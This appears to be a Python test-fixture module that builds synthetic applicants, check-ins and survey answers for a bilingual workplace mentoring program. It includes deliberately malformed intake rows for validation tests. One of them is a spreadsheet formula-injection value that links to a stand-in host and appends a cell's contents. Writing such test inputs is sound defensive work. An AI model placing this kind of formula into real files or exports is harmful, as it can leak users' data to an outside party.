"""The made-up people of the workplace program: colleagues of a technology company, in English and German."""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from datetime import date
from functools import cached_property

from tests.samples.drawing import Draw
from tests.samples.people import Applicant
from tests.samples.scales import point
from tests.samples.sheets import Row, csv_file, german_csv_file
from tests.samples.workplace_people import NEEDS, measures, mentee, mentor
from tests.samples.workplace_words import WORDS

MENTEES, LATE_MENTEES, MENTORS, LATE_MENTORS = 50, 13, 38, 6
TALES = (
    "poor_fit", "leaning", "worn_out", "barrier", "quiet", "unsafe", "fear", "too_close", "pressed", "shaken",
    "enough", "gone", "only_one", "nights", "poor_fit", "leaving", "quiet", "worn_out",
)  # fmt: skip


class Workplace:
    """See people.Profile."""

    program = "workplace"
    key = "staff_number"
    days: Sequence[date] = tuple(
        date(2027, month, day) for month, day in ((1, 18), (2, 1), (2, 3), (2, 26), (3, 22), (5, 10), (6, 21), (8, 19))
    )
    tales: Sequence[str] = TALES
    closures: Mapping[str, tuple[int, str]] = {
        "poor_fit": (4, "both asked for it: they are looking for different kinds of talk"),
        "too_close": (4, "since March they work in the same reporting line"),
        "enough": (5, "it was enough, earlier than planned, and both are glad"),
        "gone": (5, "couldn't be reached, by mail or by phone"),
        "leaving": (6, "one of them has found work elsewhere, and they said goodbye"),
    }
    decided: Sequence[tuple[str, str, str]] = (
        ("S-1048", "accept", "rang: has a permanent contract and forgot the box"),
        (
            "S-1049",
            "decline",
            "rang: works for a supplier; was told of the night line and of their own employer's offer",
        ),
    )
    outcomes: Mapping[str, Sequence[str]] = {
        "not_safe": ("rang within the hour, safe, sees the practice on Thursday", "rang, a friend is with them"),
        "fear_for_someone": ("rang the listener, then the other person; a plan for the weekend is made",),
        "words_of_danger": ("rang: meant the pace of work, not life; glad that somebody asked",),
        "pressed_at_work": ("the works council was told, with consent",),
        "shaken": ("talked for half an hour; first-aiders of the site know",),
        "worn_out_listener": ("a pause of four weeks from new people, next supervision is booked",),
        "nights_awake": ("spoke twice; hands over to another listener if it goes on",),
        "leaning_hard": ("both agreed on once a week, and on a second person to talk to",),
        "only_one_person": ("looked for a second person together; lunch group on Thursdays",),
        "hard_to_understand": ("they speak English now, with the camera on", "slower, and shorter; goes better"),
        "not_met": ("rang both; they have a date now", "rang both; one was ill, they begin next week"),
        "does_not_fit": ("rang both; they would rather end it kindly", "rang both; they give it four more weeks"),
        "too_close_at_work": ("confirmed; a new listener is looked for",),
        "quiet": ("on leave until the end of the month", "rang: busy, still wants to go on", "left a message"),
    }

    def applicants(self) -> Sequence[Applicant]:
        return self._everyone

    @cached_property
    def _everyone(self) -> tuple[Applicant, ...]:
        mentees = [mentee(place, int(place > MENTEES)) for place in range(1, MENTEES + LATE_MENTEES + 1)]
        mentors = [mentor(place, int(place > MENTORS)) for place in range(1, MENTORS + LATE_MENTORS + 1)]
        return (*mentees, *mentors)

    def survey(self) -> Sequence[Row]:
        return tuple(_surveyed(Draw("workplace survey", place)) for place in range(64))

    def spoil(self, wave: int, rows: list[dict[str, str]]) -> list[dict[str, str]]:
        if wave != 0 or not rows:
            return rows
        like = rows[0]
        wrong = [
            {**like, "staff_number": "S-1301", "age": "17"},  # too young: an apprentice who may come back in summer
            {**like, "staff_number": "S-1302", "age": "230"},
            {**like, "staff_number": "S-1303", "email": "jana.at.post.example"},
            {**like, "staff_number": "", "preferred_name": "Anon"},
            {**like, "staff_number": "S-1304", "form": "intake-guest"},
            {**like, "staff_number": "S-1305", "submitted": "2027-11-20 10:00"},
            {**like, "staff_number": "S-1306", "talk_languages": ""},
            dict.fromkeys(like, ""),
        ]
        later = next(dict(row) for row in rows if row["staff_number"] == "S-1012")
        later |= {"staff_number": " s-1012 ", "email": later["email"].upper(), "submitted": "2027-01-17 23:10"}
        rows = [*rows[:20], *wrong[:4], *rows[20:55], *wrong[4:], *rows[55:], later]
        _set(rows, "S-1007", interests="sport; skydiving", how_heard="on the tram")
        _set(rows, "S-1021", support_note='=HYPERLINK("https://pay.example/?x="&A1,"my note")')
        _set(rows, "S-1034", preferred_name="  Kerstin  ", access_needs="-")
        return rows

    def check_in(self, person: Applicant, role: str, form: str, tale: str, number: int) -> Row:
        draw = person.drawing(form, number)
        share = person.share_after(number)
        row = {
            "met": draw.weighted({"yes": 8.0, "not_yet": 1, "no": 1}),
            "fit": point(draw, 0.82, 2, 5, 0.2) if draw.chance(0.9) else "3",
            "go_on": draw.weighted({"yes": 14.0, "unsure": 1}),
            "understanding": point(draw, 0.85, 3, 5, 0.2),
            "moved_closer": "no",
            "safe": "yes",
        }
        if role == "mentor":
            row["fear_for_other"] = "no"
        if "monthly" in form:
            row |= {
                "contacts_a_week": str(draw.whole(0, 2)),
                "goal_progress": point(draw, 0.3 + 0.1 * number, 1, 5, 0.2),
            }
            row |= {"pressed": "no", "hard_event": "no"}
            if draw.chance(0.12):
                row["for_the_desk"] = draw.one(WORDS["desk"][person.language])
            if role == "mentee":
                row |= {"felt_heard": point(draw, 0.8, 1, 5, 0.2), "only_you": point(draw, 0.75 - share / 2, 1, 4, 0.2)}
            else:
                row |= {"leaned_on": point(draw, 0.15, 1, 3, 0.2), "energy": point(draw, 0.1 + share / 2, 2, 5, 0.2)}
                row["takes_home"] = point(draw, 0.2, 1, 4, 0.2)
        if draw.chance(0.08):
            row["hard_to_say"] = draw.one(WORDS["hard"][person.language])
        return row | _tale(tale, role, number, "monthly" in form, person.language)

    def measure(self, person: Applicant, months: int, tells: bool) -> Row:
        draw = person.drawing("measure", months)
        share = person.share_after(months)
        row = measures(draw, person.role, person.language, share)
        if tells and draw.chance(0.7):
            kind = "story" if person.role == "mentee" else "story_listener"
            row["story_change" if person.role == "mentee" else "story_listener"] = draw.one(
                WORDS[kind][person.language]
            )
            row["may_quote"] = "yes" if draw.chance(0.55) else "no"
        return row

    def goals(self, person: Applicant, number: int) -> str:
        kind = "goal" if person.role == "mentee" else "mentor_goal"
        return person.drawing("goal", number).one(WORDS[kind][person.language])

    def feedback(self, person: Applicant, session: str) -> Row:
        draw = person.drawing("feedback", session)
        words = draw.one(WORDS["session"][person.language]) if draw.chance(0.4) else ""
        return {"session_worth": point(draw, 0.75, 1, 5, 0.2), "session_next": words}

    def leaves(self, person: Applicant, tale: str) -> Row:
        draw = person.drawing("exit", tale)
        why = {"poor_fit": "no_fit", "enough": "enough", "gone": "no_time", "too_close": "own_reasons"} | {
            "leaving": "left_company"
        }
        return {
            "exit_why": why.get(tale, "planned"),
            "exit_helped": point(draw, 0.45 if tale in ("poor_fit", "gone") else 0.8, 1, 5, 0.15),
            "exit_again": draw.weighted({"yes": 5.0, "maybe": 3, "no": 1}),
            "exit_better": draw.one(WORDS["better"][person.language]),
        }

    def file(self, name: str, wave: int, rows: Sequence[Row]) -> tuple[str, bytes]:
        if name == "intake" and wave == 1:
            return "intake-excel.csv", german_csv_file(rows)
        return f"{name}.csv", csv_file(rows)


def _set(rows: list[dict[str, str]], staff_number: str, **answers: str) -> None:
    next(row for row in rows if row["staff_number"] == staff_number).update(answers)


def _tale(tale: str, role: str, number: int, is_monthly: bool, language: str) -> dict[str, str]:
    """What is different in the answers of somebody to whom this happens."""
    match tale, role:
        case "poor_fit", _:
            return {"fit": "2", "go_on": "somebody_else" if role == "mentee" else "unsure", "understanding": "3"}
        case "leaning", "mentor" if is_monthly and number in (1, 2):
            return {"leaned_on": "4", "contacts_a_week": "5"}
        case "only_one", "mentee" if is_monthly and number in (1, 2):
            return {"only_you": "5", "contacts_a_week": "4"}
        case "worn_out", "mentor" if is_monthly and number in (2, 3):
            return {"energy": "2", "takes_home": "3"}
        case "nights", "mentor" if is_monthly and number == 3:
            return {"takes_home": "5"}
        case "barrier", _ if not is_monthly:
            return {"understanding": "2"}
        case "unsafe", "mentee" if is_monthly and number == 2:
            words = {
                "en": "Some evenings I feel I can't go on like this.",
                "de": "An manchen Abenden denke ich, ich kann nicht mehr.",
            }
            return {"safe": "unsure", "hard_to_say": words[language]}
        case "fear", "mentor" if is_monthly and number in (1, 6):
            return {"fear_for_other": "unsure"}
        case "too_close", _ if is_monthly:
            return {"moved_closer": "yes"}
        case "pressed", "mentee" if is_monthly and number == 2:
            return {"pressed": "yes"}
        case "shaken", "mentee" if is_monthly and number == 3:
            return {"hard_event": "yes"}
    return {}


def _surveyed(draw: Draw) -> Row:
    language = draw.one(("en", "de", "de"))
    needs = draw.many(
        {name: weight for name, weight in NEEDS.items() if name not in ("telling", "loss", "change")}, draw.whole(1, 3)
    )
    return {
        "survey_load": str(draw.whole(2, 5)),
        "survey_needs": "; ".join(needs) if draw.chance(0.85) else "nothing",
        "survey_talk": draw.weighted({"yes": 5.0, "maybe": 4, "no": 2}),
        "survey_stops": draw.one(WORDS["stops"][language]),
        "survey_listen": draw.weighted({"yes": 2.0, "maybe": 3, "no": 5}),
        "survey_place": draw.weighted({"mostly_remote": 4.0, "hybrid": 5, "mostly_on_site": 3}),
        "survey_wish": draw.one(WORDS["wish"][language]),
    }
